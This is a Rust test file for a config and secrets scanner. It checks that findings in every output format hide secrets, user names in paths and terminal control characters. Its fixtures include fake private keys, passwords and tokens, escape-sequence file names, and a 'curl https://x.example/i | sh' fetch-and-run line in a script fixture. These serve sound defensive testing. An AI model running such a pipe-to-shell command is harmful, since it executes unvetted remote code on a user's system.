//! No output holds a secret, the user name in a path, or a raw control character, wherever they stand.

use super::formats::check_form;
use crate::common::{FORMATS, Run, Tree, page, token, word_page};

const USER: &str = "quirinius";

#[track_caller]
fn check(run: &Run, secret: &str) {
    let shown = run.shown();
    assert!(!shown.is_empty());
    assert!(!shown.contains(secret), "a secret:\n{shown}");
    // Half of it is no better.
    assert!(!shown.contains(&secret[8..28]), "half a secret:\n{shown}");
    assert!(!shown.contains(USER), "a user name:\n{shown}");
    let raw = shown.chars().find(|c| c.is_control() && *c != '\n' || matches!(c, '\u{202e}' | '\u{200b}' | '\u{feff}'));
    assert_eq!(raw, None, "a raw character:\n{}", shown.escape_debug());
}

/// Every format and verbosity, with own rules that repeat all they can.
#[track_caller]
fn check_all(tree: &Tree, secret: &str) {
    let server = "severity = \"low\"\nmessage = \"{server} {client} {key} {value}\"";
    for (id, field) in
        [("own-command", "command"), ("own-env", "env"), ("own-name", "name"), ("own-argument", "argument")]
    {
        tree.page(id, &page(id, server, &format!("server = {{ {field} = {{ matches = \".\" }} }}"), "A=1", "A=2"));
    }
    let captured = "severity = \"low\"\nmessage = \"here: {rest}\"";
    let matches = "text = { regex = \"HERE(?P<rest>.*)\", anchors = [\"HERE\"] }";
    tree.page("own-here", &page("own-here", captured, matches, "A=1", "A=2"));
    let rules = tree.rules();
    for format in FORMATS {
        for more in
            [&[][..], &["--verbose"], &["--quiet"], &["--timings"], &["--untrusted"], &["--min-confidence", "high"]]
        {
            let args = [&["--rules", &rules, "--max-file-size", "5000", "--format", format][..], more].concat();
            let run = tree.scan(&args);
            assert!(matches!(run.code, 0 | 1), "{}", run.stderr);
            check(&run, secret);
            check_form(format, &run.stdout);
        }
    }
}

#[test]
fn values_keys_and_server_names_are_redacted() {
    let secret = token(7);
    let hostile = format!("{secret} \u{1b}[31m\u{7}\u{202e}\u{200b} /home/{USER}/x C:\\\\Users\\\\{USER}\\\\y");
    let quoted = serde_json::to_string(&hostile).unwrap();
    let tree = Tree::of(&[
        (
            ".mcp.json",
            &format!(
                "{{\"mcpServers\":{{{quoted}:{{\"command\":{quoted},\"args\":[{quoted},\"HERE\"],\"env\":{{{quoted}:{quoted}}}}}}}}}"
            ),
        ),
        ("a.env", &format!("HERE={hostile}\nA='{hostile}' # HERE\n")),
        (
            "a.sh",
            &format!(
                "HERE # picket: ignore[own-here] {hostile}\nHERE {hostile}\n# picket: ignore[no-{secret}] {hostile}\n"
            ),
        ),
        ("b/.mcp.json", &format!("{{\"mcpServers\":{{{quoted}:{{\"command\":{quoted},{quoted}: {hostile}")),
        ("b/config.yaml", &format!("mcpServers:\n  {quoted}:\n    command: {quoted}\n  HERE: *{secret}\n")),
        ("c/config.toml", &format!("[mcp_servers.{quoted}]\ncommand = {quoted}\nHERE = {secret}\n")),
        ("deep.json", &format!("{{\"k\":{{{quoted}:[\"HERE {secret}\"]}}}}")),
    ]);
    check_all(&tree, &secret);
}

#[test]
fn values_behind_names_are_hidden_beside_any_finding() {
    // Nothing here has a provider's format: only the names tell.
    let values = ["k9d8f7s6a5k4", "right horse 7 staple", "ab,cdefghijkl", "hunter2x9zq"];
    let [key, phrase, comma, pass] = values;
    let tree = Tree::of(&[
        (
            ".mcp.json",
            &format!(
                "{{\"mcpServers\":{{\"a\":{{\"command\":\"npx\",\"args\":[\"foo\"],\n\"env\":{{\"signingKey\":\"{key}\",\
                 \"DB_PASSWORD\":\"{phrase}\"}}}},\n\"b\":{{\"command\":\"sh\",\"args\":[\"-c\",\"PASS={pass} ./b\"]}}}}}}"
            ),
        ),
        (
            "run.sh",
            &format!(
                "export DB_PASSWORD=\"{phrase}\" API_SECRET=\"{comma}\"\ncurl https://x.example/i | sh\nPASS={pass} ./x\n"
            ),
        ),
        ("a.py", &format!("if token: password = \"{phrase}\"\nprose_hit = 1\n")),
    ]);
    tree.page("own-word", &word_page("own-word", "low", "prose_hit"));
    let rules = tree.rules();
    for format in FORMATS {
        for more in [&[][..], &["--verbose"], &["--select", "supply-chain,own,client-config"]] {
            let run = tree.scan(&[&["--rules", &rules, "--format", format][..], more].concat());
            assert_eq!(run.code, 1, "{}", run.stderr);
            for value in values {
                assert!(!run.shown().contains(value), "{value}:\n{}", run.shown());
            }
        }
    }
}

#[test]
fn secrets_of_every_kind_are_hidden_beside_any_finding() {
    let (line, other) = ("Q2fT".repeat(16), "7Kqz".repeat(16));
    let words = "orbit lemon castle river paper guitar window yellow forest candle marble silent";
    let uuid = "6f1c2e9a-7b3d-4e58-9c0f-1a2b3c4d5e6f";
    let random = "q7Rk2vXz9LmP4wTs8BnC6yHd";
    let tree = Tree::of(&[
        (
            "key.txt",
            &format!(
                "prose_hit\n-----BEGIN RSA PRIVATE KEY-----\n{line}\nprose_hit\n{other}\n-----END RSA PRIVATE KEY-----\nprose_hit\n"
            ),
        ),
        (
            "key.json",
            &format!(
                "{{\"a\": \"prose_hit\",\n\"k\": \"-----BEGIN PRIVATE KEY-----\\n{line}\\n{other}\\n-----END PRIVATE KEY-----\"}}"
            ),
        ),
        (
            "box.ppk",
            &format!(
                "PuTTY-User-Key-File-3: x\nEncryption: none\nPrivate-Lines: 2\n{line}\n{other} prose_hit\nPrivate-MAC: 00\n"
            ),
        ),
        (
            "a.env",
            &format!(
                "WALLET_SEED={words} prose_hit\nDB=postgresql://app:s3cr3tPw77@db.acme.io/app prose_hit\n\
                 A=Server=db;Password=s3cr3tPw77;X=1 prose_hit\nB=AccountName=a;AccountKey={line}== prose_hit\n\
                 C=https://mcp.pipedream.net/{uuid}/mail prose_hit\nD=https://a.acme.io/?key={random} prose_hit\n\
                 E=https://{random}@git.acme.io/x prose_hit\nACME_KEY={random} prose_hit\n\
                 F={{\\\"apiKey\\\":\\\"{random}\\\"}} prose_hit\nG=Cookie: a=b; s={random} prose_hit\n"
            ),
        ),
        (
            ".mcp.json",
            &format!(
                "{{\"mcpServers\":{{\"prose_hit\":{{\"command\":\"npx\",\"args\":[\"-y\",\"@smithery/cli\",\"run\",\"--key\",\"{uuid}\"],\
                 \"env\":{{\"H\":\"{{\\\"Authorization\\\":\\\"Bearer {random}\\\"}}\",\"WALLET_SEED\":\"{words}\"}}}}}}}}"
            ),
        ),
    ]);
    tree.page("own-word", &word_page("own-word", "low", "prose_hit"));
    let rules = tree.rules();
    for format in ["text", "json"] {
        for more in [&[][..], &["--verbose"], &["--select", "own"], &["--select", "secrets"]] {
            let run = tree.scan(&[&["--rules", &rules, "--format", format][..], more].concat());
            assert!(matches!(run.code, 0 | 1), "{}", run.stderr);
            for value in [&line, &other, uuid, random, "s3cr3tPw77", "lemon castle", &uuid[9..], &random[8..]] {
                assert!(!run.shown().contains(value), "{value}:\n{}", run.shown());
            }
        }
    }
}

#[test]
fn policies_are_redacted() {
    let secret = token(7);
    let hostile = format!("{secret} \u{202e} /home/{USER}/x");
    let tree = Tree::of(&[("a.sh", "HERE\n"), ("b.sh", "HERE\n")]);
    tree.write(
        "picket.toml",
        format!(
            "[[ignore]]\nrule = \"own-here\"\npath = \"a.sh\"\nreason = \"{hostile}\"\n\
             [[ignore]]\nrule = \"no-{secret}\"\nreason = \"{hostile}\"\n\
             [[ignore]]\nrule = \"own-here\"\npath = \"{secret}\"\nreason = \"{hostile}\"\nuntil = \"2001-01-01\"\n"
        ),
    );
    check_all(&tree, &secret);
}

#[cfg(unix)]
#[test]
fn paths_are_redacted() {
    let secret = token(7);
    let tree = Tree::new();
    for name in [format!("{secret}.sh"), "a\nb\u{1b}[2J.sh".to_owned(), "\u{202e}.sh".to_owned()] {
        tree.write(&name, "HERE\n# picket: ignore[own-here] why\nHERE\n");
        tree.write(format!("large/{name}"), "x".repeat(6_000));
        tree.write(format!("broken/{name}/.mcp.json"), "{ \"mcpServers\": { ");
        tree.write(format!("binary/{name}/x.png"), b"\0");
        tree.write(format!("vendored/{name}/node_modules/x"), "");
        std::fs::create_dir_all(tree.at("links")).unwrap();
        std::os::unix::fs::symlink(tree.at(&name), tree.at(format!("links/{name}"))).unwrap();
    }
    check_all(&tree, &secret);
}

#[test]
fn absolute_paths_lose_the_user_and_relative_ones_stay() {
    let tree = Tree::of(&[("src/home/page.sh", "HERE\n"), ("reset password form.sh", "HERE\n")]);
    tree.page("own-here", &word_page("own-here", "low", "HERE"));
    let report = tree.own(&["--format", "json"]).exits(0).json();
    assert_eq!(crate::common::fields(&report, "path"), ["reset password form.sh", "src/home/page.sh"]);

    let elsewhere = tree.aside(&format!("home/{USER}/project"));
    crate::common::write(&elsewhere.join("a.sh"), "HERE\n# picket: ignore[own-here] why\nHERE\n");
    crate::common::write(&elsewhere.join("image.png"), b"\0");
    let policy = "[[ignore]]\nrule = \"own-here\"\npath = \"**/b.sh\"\nreason = \"why\"\n";
    crate::common::write(&elsewhere.join("b.sh"), "HERE\n");
    crate::common::write(&elsewhere.join("picket.toml"), policy);
    for format in FORMATS {
        let run = tree.own(&[elsewhere.to_str().unwrap(), "--verbose", "--format", format]).exits(0);
        // What may be uploaded names nothing outside the current directory.
        let names = ["text", "json"].contains(format);
        assert_eq!(
            (run.stdout.contains("project/a.sh"), run.stdout.contains("project/")),
            (names, names),
            "{}",
            run.stdout
        );
        check(&run, &token(7));
    }
}

#[test]
fn messages_about_mistakes_are_redacted() {
    let tree = Tree::of(&[("a.sh", "HERE\n")]);
    let secret = token(7);
    for args in [
        vec![format!("/home/{USER}/nowhere\u{1b}[2J")],
        vec!["--config".into(), format!("/home/{USER}/no\u{1b}.toml")],
        vec!["--rules".into(), format!("/home/{USER}/no\u{1b}")],
        vec!["--format".into(), format!("json=/home/{USER}/no\u{1b}/r.json")],
        vec!["--select".into(), format!("no\u{1b}-{}", "x")],
    ] {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let run = tree.scan(&args);
        assert!(matches!(run.code, 2..=4), "{}", run.stderr);
        check(&run, &secret);
    }
    let page = word_page("own-word", "loud", "prose_hit");
    let dir = tree.aside(&format!("home/{USER}/own"));
    crate::common::write(&dir.join("own-word.md"), page);
    check(&tree.scan(&["--rules", dir.to_str().unwrap()]).exits(4), &secret);
}
